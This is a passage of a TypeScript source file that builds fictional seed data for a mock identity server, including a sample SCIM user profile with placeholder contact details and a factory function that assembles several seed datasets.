    user(SCIM_USERS.robin, 'robin.owner@acme.example', 'Robin', 'Owner'),
  ];
}

/** The ids of the organisation's other users (administrator mode). */
export const SCIM_USERS = {
  jordan: '4b1d7c2e-6a3f-4e8b-9d10-1f2e3a4b5c6d',
  sam: '7e9a0b1c-2d3e-4f50-8a6b-7c8d9e0f1a2b',
  /** The organisation's owner: the server refuses an administrator's edits (Asgardeo: only through My Account). */
  robin: '0c1d2e3f-4a5b-4c6d-8e7f-8091a2b3c4d5',
} as const;

function scimSeed(now: number): ScimState {
  const id = '8a3c1e52-0f4b-4d7e-b1a9-6d2e5c7f9a10';
  return {
    user: {
      schemas: [SCIM_CORE_USER, SCIM_ENTERPRISE_USER, SCIM_WSO2_USER],
      id,
      userName: 'alex.morgan@example.com',
      name: { givenName: 'Alex', familyName: 'Morgan', formatted: 'Alex Morgan' },
      displayName: 'Alex Morgan',
      emails: [
        { value: 'alex.morgan@example.com', primary: true, type: 'work' },
        { value: 'alex.m@example.net', primary: false, type: 'home' },
      ],
      phoneNumbers: [
        { value: '+1 212 555 0147', type: 'mobile', primary: true },
        { value: '+1 212 555 0199', type: 'work' },
      ],
      locale: 'en-US',
      timezone: 'America/New_York',
      preferredLanguage: 'en',
      meta: {
        resourceType: 'User',
        created: '2022-09-05T14:03:11.482Z',
        lastModified: '2024-12-11T10:27:45.019Z',
        location: `${SCIM_BASE}/Users/${id}`,
      },
      [SCIM_ENTERPRISE_USER]: {
        employeeNumber: 'E-20417',
        organization: 'Acme Corporation',
        department: 'Customer Experience',
        division: 'Digital Channels',
        costCenter: 'CX-4100',
        manager: { value: '2d7f0b6e-9c1a-4e3b-8f5d-7a6b5c4d3e21', $ref: `${SCIM_BASE}/Users/2d7f0b6e-9c1a-4e3b-8f5d-7a6b5c4d3e21`, displayName: 'Priya Natarajan' },
      },
      [SCIM_WSO2_USER]: {
        country: 'United States',
        dateOfBirth: '1988-07-23',
        mobileNumbers: ['+12125550147'],
        verifiedMobileNumbers: ['+12125550147'],
        householdSize: 2,
        monthlyBudget: 1850.5,
        marketingOptIn: true,
        emailVerified: true,
        accountLocked: false,
        lastLogonTime: iso(now - 2 * HOUR - 17 * MINUTE),
        loyaltyPoints: 3840,
      },
    },
    others: scimOthers(),
    schemas: scimSchemas(),
    allowDelete: false,
    deleted: false,
    password: 'Sup3r-secret!',
  };
}

// ---------------------------------------------------------------------------------------------

/** Builds a fresh, independent seed (new objects on every call). */
export function createSeed(options: SeedOptions = {}): SeedData {
  const now = options.now === undefined ? Date.now() : new Date(options.now).getTime();
  if (!Number.isFinite(now)) throw new TypeError(`createSeed: invalid "now": ${String(options.now)}`);
  const count = (v: number | undefined, d: number) => (v === undefined || !Number.isFinite(v) ? d : Math.max(0, Math.floor(v)));
  return {
    now: iso(now),
    modyo: modyoSeed(now, count(options.notifications, 30), count(options.events, 45)),
    rest: restSeed(),
    scim: scimSeed(now),
  };
}
